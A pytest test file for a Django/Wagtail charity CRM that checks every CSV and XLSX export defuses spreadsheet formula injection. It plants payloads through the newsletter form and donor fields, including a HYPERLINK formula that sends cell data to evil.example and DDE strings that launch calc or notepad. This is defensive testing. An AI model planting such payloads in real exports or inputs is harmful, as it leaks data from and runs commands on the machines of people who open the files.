"""Spreadsheet formula injection (issue 13): every CSV and XLSX the CRM writes shows a planted formula
as text. The payloads arrive the way an outsider would plant them (the anonymous newsletter form) and
the way staff or an import would (donor fields); every listing and report export is found from the URL
configuration, so a new export cannot skip crm/exports.py."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from crm.exports import PeopleSpreadsheetMixin, looks_like_formula, neutralise_formula, spreadsheet_value
from crm.factories import DonationFactory, DonorFactory
from crm.models import Donor, Mailing, Segment
from crm.receipts import services as receipt_services
from tests.crm.test_admin_fixtures import superuser_fixture  # noqa: F401

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
CMD = "+cmd|' /C notepad'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
TABBED = "\t=1+1"
SPACED = "  =1+2"
PAYLOADS = [HYPERLINK, SUM, CMD, MINUS, TABBED, SPACED]


@pytest.mark.parametrize("value", [*PAYLOADS, "\r=1", "＝1+1", "＋1"])
def test_formula_like_text_is_prefixed(value):
    assert looks_like_formula(value)
    assert spreadsheet_value(value) == "'" + value


@pytest.mark.parametrize("value", [12000, -5, 3.5, "山田 太郎", "a=b", "", None])
def test_other_values_are_left_alone(value):
    assert neutralise_formula(value) == value
    if isinstance(value, (int, float)):
        assert spreadsheet_value(value) == value  # numbers stay numbers, even negative ones


def _csv_cells(body: bytes) -> list[str]:
    text = body.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_csv_safe(body: bytes, expected: list[str]):
    cells = _csv_cells(body)
    for payload in expected:
        assert "'" + payload in cells, (payload, cells)
    for cell in cells:
        assert not looks_like_formula(cell), cell


def _assert_xlsx_safe(body: bytes, expected: list[str]):
    sheet = load_workbook(io.BytesIO(body)).active
    found = {}
    for row in sheet.iter_rows():
        for cell in row:
            if looks_like_formula(cell.value):
                assert cell.data_type == "s" and cell.quotePrefix, (cell.value, cell.data_type)
                found[cell.value] = cell
    for payload in expected:
        assert payload.replace("\r", "") in found or payload in found, (payload, list(found))


def _body(response) -> bytes:
    assert response.status_code == 200, response
    if getattr(response, "streaming", False):
        return b"".join(
            part if isinstance(part, bytes) else part.encode() for part in response.streaming_content
        )
    return response.content


@pytest.fixture
def planted(client, settings):
    """A donor planted through the anonymous newsletter form, and one with every field a payload."""
    settings.MAILCHIMP_API_KEY = ""
    response = client.post(
        reverse("newsletter_signup"),
        {"family_name": HYPERLINK, "given_name": SUM, "email": "planted@example.org", "language": "ja"},
        HTTP_ORIGIN="http://testserver",
    )
    assert response.status_code == 302, response.content[:500]
    from_form = Donor.objects.get(email="planted@example.org")
    assert from_form.family_name == HYPERLINK
    staff_typed = DonorFactory(
        family_name=CMD,
        given_name=MINUS,
        email="typed@example.org",
        notes=TABBED,
        postal_code="150-0001",
        prefecture="東京都",
        city="渋谷区",
        address_line=SPACED,
        receipt_delivery="post",
        company_role=HYPERLINK,
    )
    staff_typed.tags.add("post")
    DonationFactory(donor=staff_typed, amount=5000)
    DonationFactory(donor=from_form, amount=3000)
    return from_form, staff_typed


def _export_views():
    """Every admin view that offers Wagtail's CSV/XLSX export, found from the URL configuration."""

    def walk(patterns, prefix=""):
        for p in patterns:
            if isinstance(p, URLResolver):
                yield from walk(p.url_patterns, prefix + str(p.pattern))
            elif isinstance(p, URLPattern):
                view_class = getattr(p.callback, "view_class", None)
                if view_class and issubclass(view_class, SpreadsheetExportMixin) and view_class.list_export:
                    yield prefix + str(p.pattern), view_class

    return list(walk(get_resolver().url_patterns))


def test_every_crm_listing_export_goes_through_crm_exports():
    views = [(route, cls) for route, cls in _export_views() if cls.__module__.startswith("crm.")]
    assert len(views) >= 8, views
    leaks = [(route, cls) for route, cls in views if not issubclass(cls, PeopleSpreadsheetMixin)]
    assert not leaks


def test_no_csv_or_xlsx_writer_outside_crm_exports():
    root = Path(__file__).resolve().parents[2]
    writers = re.compile(r"csv\.(writer|DictWriter)\(|openpyxl|Workbook\(")
    found = [
        str(path.relative_to(root))
        for folder in ("crm", "home", "accounts", "search", "cms")
        for path in (root / folder).rglob("*.py")
        if writers.search(path.read_text(encoding="utf-8")) and path.name != "exports.py"
    ]
    assert found == []


LISTINGS = [
    "crm_donor:index",
    "crm_donation:index",
    "crm_receipt:index",
]


@pytest.mark.parametrize("url_name", LISTINGS)
@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_listing_exports_show_formulas_as_text(client, superuser, planted, url_name, export_format):
    receipt_services.gifts_acknowledge()
    client.force_login(superuser)
    body = _body(client.get(reverse(url_name), {"export": export_format}))
    expected = [HYPERLINK] if url_name == "crm_donation:index" else [HYPERLINK, CMD]
    if url_name == "crm_donor:index":
        expected = [HYPERLINK, SUM, CMD, MINUS, TABBED, SPACED]
    if export_format == "csv":
        _assert_csv_safe(body, [] if url_name != "crm_donor:index" else expected)
    else:
        _assert_xlsx_safe(body, [] if url_name != "crm_donor:index" else expected)


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_report_exports_show_formulas_as_text(client, superuser, planted, export_format):
    client.force_login(superuser)
    body = _body(client.get("/admin/crm/reports/top-donors/", {"export": export_format}))
    check = _assert_csv_safe if export_format == "csv" else _assert_xlsx_safe
    check(body, [])
    text = body.decode("utf-8-sig", errors="ignore") if export_format == "csv" else ""
    if export_format == "csv":
        assert "typed@example.org" in text


def test_segment_export_shows_formulas_as_text(client, superuser, planted):
    segment = Segment.objects.create(
        name="Post",
        slug="post",
        rules=[{"type": "rule", "value": {"field": "tag", "operator": "has_any", "value": "post"}}],
    )
    client.force_login(superuser)
    _assert_csv_safe(_body(client.get(f"/admin/crm/segments/export/{segment.pk}/")), [CMD, MINUS])


def test_print_shop_and_print_batch_files_show_formulas_as_text(client, superuser, planted):
    _from_form, _typed = planted
    client.force_login(superuser)
    segment = Segment.objects.create(
        name="Post",
        slug="post",
        rules=[{"type": "rule", "value": {"field": "tag", "operator": "has_any", "value": "post"}}],
    )
    client.post(
        reverse("crm_mailings:add"),
        {"title": "秋", "kind": "report", "segment": segment.pk, "name_style": "full", "picked": ""},
    )
    mailing = Mailing.objects.get(title="秋")
    client.post(reverse("crm_mailings:finalise", args=[mailing.pk]))
    mailing.refresh_from_db()
    assert mailing.is_final
    cells = _csv_cells(_body(client.get(reverse("crm_mailings:csv", args=[mailing.pk]))))
    assert not any(looks_like_formula(c) for c in cells) and any(c.startswith("'") for c in cells), cells

    receipt_services.gifts_acknowledge()
    batch = receipt_services.print_batch_create()
    cells = _csv_cells(_body(client.get(reverse("crm_print_batch:csv", args=[batch.pk]))))
    assert not any(looks_like_formula(c) for c in cells), cells
    assert any(c.startswith("'") for c in cells), cells


def test_every_download_is_in_the_audit_log(client, superuser, planted):
    from wagtail.models import ModelLogEntry

    client.force_login(superuser)
    _body(client.get(reverse("crm_donor:index"), {"export": "xlsx", "q": "x"}))
    segment = Segment.objects.create(name="All", slug="all", rules=[])
    _body(client.get(f"/admin/crm/segments/export/{segment.pk}/"))
    entries = ModelLogEntry.objects.filter(action="crm.export", user=superuser).order_by("timestamp")
    assert [(e.data["list"], e.data["format"]) for e in entries] == [
        ("donors", "xlsx"),
        ("segment-all", "csv"),
    ]
    assert entries[0].data["filters"] == {"q": "x"}


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_every_listing_export_found_in_the_url_configuration_is_safe(
    client, superuser, planted, export_format
):
    """Not only the listings named above: every CRM listing with a download, found from the URLs."""
    receipt_services.gifts_acknowledge()
    client.force_login(superuser)
    routes = sorted(
        {
            route
            for route, cls in _export_views()
            if cls.__module__.startswith("crm.") and "<" not in route and "^" not in route
        }
    )
    assert len(routes) >= 8, routes
    check = _assert_csv_safe if export_format == "csv" else _assert_xlsx_safe
    for route in routes:
        response = client.get("/" + route, {"export": export_format})
        assert response.status_code == 200, route
        check(_body(response), [])
